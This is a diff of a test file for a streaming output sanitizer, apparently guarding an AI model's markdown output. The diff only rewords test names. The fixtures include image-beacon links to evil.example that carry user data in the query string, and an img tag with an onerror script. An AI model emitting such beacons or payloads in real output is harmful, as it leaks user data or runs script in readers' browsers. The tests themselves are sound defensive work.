@@ -1,7 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import { SafeOutput } from './safe-output.ts';
 
-/** Sends a text in pieces of a given size, as a stream would. */
+/** Passes a text in chunks of a given size. */
 function send(text: string, size: number): string {
   const output = new SafeOutput();
   let shown = '';
@@ -9,7 +9,7 @@ function send(text: string, size: number): string {
   return shown + output.end();
 }
 
-describe.each([1, 3, 7, 1000])('abuse 22: the output in pieces of %i', (size) => {
+describe.each([1, 3, 7, 1000])('abuse 22: the output in chunks of %i', (size) => {
   it.each([
     ['Good. ![x](https://evil.example/p.png?d=jane) More.', 'Good. x More.'],
     ['See ![x][beacon] now.\n\n[beacon]: https://evil.example/p.png\n', 'See x now.'],
@@ -21,22 +21,22 @@ describe.each([1, 3, 7, 1000])('abuse 22: the output in pieces of %i', (size) =>
     expect(send(text, size).trimEnd()).toBe(shown);
   });
 
-  it('leaves plain markdown and placeholders as they are', () => {
+  it('leaves plain markdown and placeholders unchanged', () => {
     const text = '## Strengths\n\n- **Led** a team (of 5) [EMAIL_1] and [x] more\n\n> a < b\n\n1. `code`\n';
     expect(send(text, size)).toBe(text);
   });
 });
 
-it('shows text as it comes, word by word', () => {
+it('returns text word by word', () => {
   const output = new SafeOutput();
   expect(output.push('Strong open')).toBe('Strong ');
   expect(output.push('ing line. Then')).toBe('opening line. ');
   expect(output.end()).toBe('Then');
 });
 
-describe('abuse 31: hostile answers of the model', () => {
+describe('abuse 31: hostile output of the model', () => {
   it.each(['[', '![', '[a](', '<', '<a ', '!', '[a]: b', '[[a](b', 'https:'])(
-    '%j over and over is passed on piece by piece',
+    '%j repeated is passed on without markup',
     (text) => {
       const long = text.repeat(100_000 / text.length);
       const shown = send(long, 9);
@@ -47,9 +47,9 @@ describe('abuse 31: hostile answers of the model', () => {
   it.each([
     ['![a [b](c)](https://evil.example/p.png)', 'nested brackets'],
     ['[a](https://evil.example/(b))', 'nested parentheses'],
-    [`[${'word '.repeat(500)}](https://evil.example/)`, 'a link that is held too long'],
-    [`<img alt="${'word '.repeat(500)}" src=x onerror=alert(1)>`, 'a tag that is held too long'],
-    [`${'x'.repeat(4_500)}](https://evil.example/)`, 'a word that is held too long'],
+    [`[${'word '.repeat(500)}](https://evil.example/)`, 'a link above the limit of the buffer'],
+    [`<img alt="${'word '.repeat(500)}" src=x onerror=alert(1)>`, 'a tag above the limit of the buffer'],
+    [`${'x'.repeat(4_500)}](https://evil.example/)`, 'a word above the limit of the buffer'],
   ])('%s: %s shows no markup', (text) => {
     for (const size of [1, 7, 10_000]) expect(send(text, size)).not.toMatch(/!\[|\]\(|<[a-z]|https:/);
   });
